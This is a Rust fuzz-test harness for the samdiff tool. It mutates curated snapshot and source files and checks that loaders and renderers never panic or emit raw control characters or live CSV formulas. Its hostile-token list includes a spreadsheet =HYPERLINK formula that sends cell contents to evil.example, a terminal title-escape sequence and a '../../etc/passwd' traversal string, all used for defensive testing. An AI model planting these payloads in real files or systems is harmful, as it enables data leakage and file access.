//! The fuzz harness (issue 15): mutations of the curated files, fed to the
//! snapshot loader, the registry loader, every import layout and every
//! renderer. It runs on stable Rust (proptest), briefly in CI and for as
//! long as asked:
//!
//! ```text
//! cargo test --test fuzz                                   # CI: 32 cases per target
//! SAMDIFF_FUZZ_CASES=5000 cargo test --release --test fuzz # a longer campaign
//! ```
//!
//! The corpus is every curated file: the snapshots, the registry, the five
//! source documents and the test fixtures. Each case picks one and applies a
//! few mutations: bytes flipped, ranges deleted or duplicated, cut short, and
//! hostile tokens inserted (control characters, formulas, Markdown
//! structure, huge years, NUL, bidirectional overrides, long mark runs).
//!
//! What must hold for every input: no panic; a loaded snapshot writes back to
//! JSON that loads again, and its diff with itself is empty; an imported
//! draft renders in every format, and no output holds a raw control
//! character or a live spreadsheet formula. A failure prints the minimal
//! input proptest found.

use std::path::{Path, PathBuf};

use proptest::prelude::*;
use proptest::test_runner::{Config, TestRunner};

use samdiff::diff::diff_snapshots;
use samdiff::i18n::{Catalog, Lang};
use samdiff::import::{ImportOptions, Layout, import_document};
use samdiff::model::Municipality;
use samdiff::registry::Registry;
use samdiff::render::changelog_text::TextOptions;
use samdiff::render::csv::CsvDialect;
use samdiff::snapshot::{LoadedSnapshot, SourceLookup, load_snapshot_bytes};

const ROOT: &str = env!("CARGO_MANIFEST_DIR");

/// Cases per target: `SAMDIFF_FUZZ_CASES`, default 32 (a few seconds).
fn cases() -> u32 {
    std::env::var("SAMDIFF_FUZZ_CASES")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(32)
}

fn files_in(dir: &Path, ext: Option<&str>) -> Vec<PathBuf> {
    let mut out: Vec<PathBuf> = std::fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().path())
        .filter(|p| p.is_file() && ext.is_none_or(|x| p.extension().is_some_and(|e| e == x)))
        .collect();
    out.sort();
    out
}

/// The snapshot files of the corpus (curated and fixtures).
fn snapshot_seeds() -> Vec<Vec<u8>> {
    let mut out = Vec::new();
    for dir in ["snapshots", "tests/fixtures/good", "tests/fixtures/diff"] {
        for p in files_in(&Path::new(ROOT).join(dir), Some("json")) {
            if p.file_name().is_some_and(|n| n != "registry.json") {
                out.push(std::fs::read(p).unwrap());
            }
        }
    }
    out
}

/// The source documents of the corpus.
fn document_seeds() -> Vec<Vec<u8>> {
    let mut out = Vec::new();
    for dir in [
        "snapshots/sources",
        "tests/fixtures/good/sources",
        "tests/fixtures/diff/sources",
    ] {
        for p in files_in(&Path::new(ROOT).join(dir), None) {
            out.push(std::fs::read(p).unwrap());
        }
    }
    out
}

/// Text a hostile document or file might hold.
const TOKENS: &[&str] = &[
    "\u{1b}]0;owned-title\u{7}",
    "\\u001b[2J",
    "\u{8}\u{8}",
    "\u{202e}",
    "\0",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "@SUM(1)",
    "\n---\n",
    "\n# heading\n",
    "|",
    "per 1. januar 99999",
    "per 1. januar 0000",
    "0000-01-01",
    "x x x x x x x x x x x x x x x x x x x x x x x",
    "\n\nx\n\nx\n\nx\n\n",
    "\t\t\t\t\t\t",
    "\r\n",
    "\"",
    "{",
    "]",
    "../../etc/passwd",
    "99999999999999999999",
    "§ 27",
    "Kommuneloven",
    "\u{fffd}",
];

#[derive(Debug, Clone)]
enum Mutation {
    Flip(usize, u8),
    Delete(usize, usize),
    Duplicate(usize, usize),
    Insert(usize, usize),
    Truncate(usize),
}

fn mutation() -> impl Strategy<Value = Mutation> {
    prop_oneof![
        (any::<usize>(), any::<u8>()).prop_map(|(p, b)| Mutation::Flip(p, b)),
        (any::<usize>(), 1usize..200).prop_map(|(p, n)| Mutation::Delete(p, n)),
        (any::<usize>(), 1usize..400).prop_map(|(p, n)| Mutation::Duplicate(p, n)),
        (any::<usize>(), 0..TOKENS.len()).prop_map(|(p, t)| Mutation::Insert(p, t)),
        any::<usize>().prop_map(Mutation::Truncate),
    ]
}

fn mutate(seed: &[u8], muts: &[Mutation]) -> Vec<u8> {
    let mut b = seed.to_vec();
    for m in muts {
        let len = b.len().max(1);
        match *m {
            Mutation::Flip(p, x) if !b.is_empty() => b[p % len] = x,
            Mutation::Delete(p, n) if !b.is_empty() => {
                let s = p % len;
                b.drain(s..(s + n).min(b.len()));
            }
            Mutation::Duplicate(p, n) if !b.is_empty() => {
                let s = p % len;
                let piece = b[s..(s + n).min(b.len())].to_vec();
                b.splice(s..s, piece);
            }
            Mutation::Insert(p, t) => {
                let s = p % (b.len() + 1);
                b.splice(s..s, TOKENS[t].bytes());
            }
            Mutation::Truncate(p) => b.truncate(p % len),
            _ => {}
        }
    }
    b
}

/// Inputs: a seed index and a few mutations.
fn input(seeds: usize) -> impl Strategy<Value = (usize, Vec<Mutation>)> {
    (0..seeds, proptest::collection::vec(mutation(), 1..6))
}

fn runner() -> TestRunner {
    TestRunner::new(Config {
        cases: cases(),
        failure_persistence: None,
        ..Config::default()
    })
}

/// Sources of the curated set, as the loader would read them.
struct EmbeddedSources;

impl SourceLookup for EmbeddedSources {
    fn read_source(&self, rel: &str) -> Result<Vec<u8>, samdiff::i18n::TextArg> {
        let p = Path::new(ROOT).join("snapshots").join(rel);
        std::fs::read(p).map_err(|e| e.to_string().into())
    }
}

/// No output may hold a raw control character (other than line breaks and
/// tabs) or a spreadsheet formula at the start of a CSV cell.
/// `text` without the colour sequences samdiff's own styles write
/// (`ESC [ digits ; ... m`), which the terminal layer strips or shows.
fn strip_own_styles(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(i) = rest.find("\u{1b}[") {
        out.push_str(&rest[..i]);
        let after = &rest[i + 2..];
        let n = after
            .find(|c: char| !(c.is_ascii_digit() || c == ';'))
            .unwrap_or(after.len());
        if after[n..].starts_with('m') {
            rest = &after[n + 1..];
        } else {
            out.push('\u{1b}');
            rest = &rest[i + 1..];
        }
    }
    out.push_str(rest);
    out
}

fn assert_clean(what: &str, out: &[u8]) {
    let text = strip_own_styles(&String::from_utf8_lossy(out));
    if let Some(c) = text
        .chars()
        .find(|&c| samdiff::controls::is_unsafe(c) && c != '\r')
    {
        panic!("{what}: raw control character U+{:04X} in output", c as u32);
    }
}

fn render_everything(before: &LoadedSnapshot, after: &LoadedSnapshot, registry: &Registry) {
    let cat = Catalog::new(Lang::Nb);
    let log = diff_snapshots(&before.snapshot, &after.snapshot, registry);
    let opt = TextOptions {
        cat: &cat,
        all: true,
        evidence: true,
        sources: None,
        heading: anstyle::Style::new(),
        dim: anstyle::Style::new(),
    };
    let mut out = Vec::new();
    samdiff::render::changelog_text::write_changelog(&log, &mut out, &opt).unwrap();
    assert_clean("text", &out);
    let mut out = Vec::new();
    samdiff::render::changelog_markdown::write_changelog(&log, &cat, &mut out, true).unwrap();
    assert_clean("markdown", &out);
    let mut out = Vec::new();
    samdiff::render::json::write_changelog(&log, &mut out).unwrap();
    assert_clean("json", &out);
    for dialect in [CsvDialect::Plain, CsvDialect::Excel] {
        let mut out = Vec::new();
        samdiff::render::csv::write_changelog_csv(&log, &cat, dialect, &mut out).unwrap();
        assert_clean("csv", &out);
        let mut r = csv::ReaderBuilder::new()
            .has_headers(false)
            .delimiter(if dialect == CsvDialect::Excel {
                b';'
            } else {
                b','
            })
            .from_reader(out.strip_prefix(b"\xEF\xBB\xBF").unwrap_or(&out));
        for rec in r.records() {
            for cell in rec.unwrap().iter() {
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "live formula in a CSV cell: {cell:?}"
                );
            }
        }
    }
    let audit = samdiff::audit::run_audit(&[before, after], registry);
    for write in [
        samdiff::render::audit_text::write_audit_text as fn(&_, &_, &mut dyn std::io::Write) -> _,
        samdiff::render::audit_markdown::write_audit_markdown,
    ] {
        let mut out = Vec::new();
        write(&audit, &cat, &mut out).unwrap();
        assert_clean("audit", &out);
    }
    let mut out = Vec::new();
    samdiff::render::csv::write_audit_csv(&audit, &cat, CsvDialect::Excel, &mut out).unwrap();
    assert_clean("audit csv", &out);
}

fn curated(id: &str) -> LoadedSnapshot {
    let set = samdiff::snapshot::SnapshotSet::embedded()
        .into_result()
        .unwrap();
    set.snapshots
        .into_iter()
        .find(|s| s.snapshot.id.as_str() == id)
        .unwrap()
}

#[test]
fn snapshot_loader_survives_mutations() {
    let seeds = snapshot_seeds();
    let registry = Registry::embedded().unwrap();
    runner()
        .run(&input(seeds.len()), |(i, muts)| {
            let bytes = mutate(&seeds[i], &muts);
            if let Ok(loaded) = load_snapshot_bytes("fuzz.json", &bytes, &EmbeddedSources) {
                let json = serde_json::to_vec_pretty(&loaded.snapshot).unwrap();
                let again = samdiff::snapshot::parse_snapshot("again.json", &json);
                prop_assert!(again.is_ok(), "{:?}", again.err());
                let log = diff_snapshots(&loaded.snapshot, &loaded.snapshot, &registry);
                prop_assert!(log.changes.iter().all(|c| c.cosmetic) || log.changes.is_empty());
                render_everything(&loaded, &loaded, &registry);
            }
            Ok(())
        })
        .unwrap();
}

#[test]
fn registry_loader_survives_mutations() {
    let seed = std::fs::read(Path::new(ROOT).join("snapshots/registry.json")).unwrap();
    runner()
        .run(&input(1), |(_, muts)| {
            let bytes = mutate(&seed, &muts);
            let _ = Registry::from_bytes("fuzz-registry.json", &bytes);
            Ok(())
        })
        .unwrap();
}

#[test]
fn every_import_layout_and_renderer_survives_mutations() {
    let seeds = document_seeds();
    let registry = Registry::embedded().unwrap();
    let reference = curated("region-2019");
    let columns: Vec<Municipality> = ["Gausdal", "Lillehammer", "Øyer"]
        .map(Municipality::from)
        .to_vec();
    runner()
        .run(&(input(seeds.len()), 0usize..4), |((i, muts), layout)| {
            let bytes = mutate(&seeds[i], &muts);
            let opts = ImportOptions {
                layout: match layout {
                    0 => Layout::Auto,
                    1 => Layout::Table,
                    _ => Layout::PdfText,
                },
                as_of: Some("2021-01-01".parse().unwrap()),
                columns: (layout == 3).then(|| columns.clone()),
                registry: Some(registry.clone()),
                ..ImportOptions::default()
            };
            if let Ok(report) = import_document("fuzz.txt", &bytes, &opts) {
                let json = serde_json::to_vec_pretty(&report.snapshot).unwrap();
                let again = samdiff::snapshot::parse_snapshot("draft.json", &json);
                prop_assert!(again.is_ok(), "{:?}", again.err());
                let draft = LoadedSnapshot::new(
                    report.snapshot,
                    "fuzz.txt",
                    String::from_utf8_lossy(&bytes).into_owned(),
                );
                render_everything(&reference, &draft, &registry);
            }
            Ok(())
        })
        .unwrap();
}
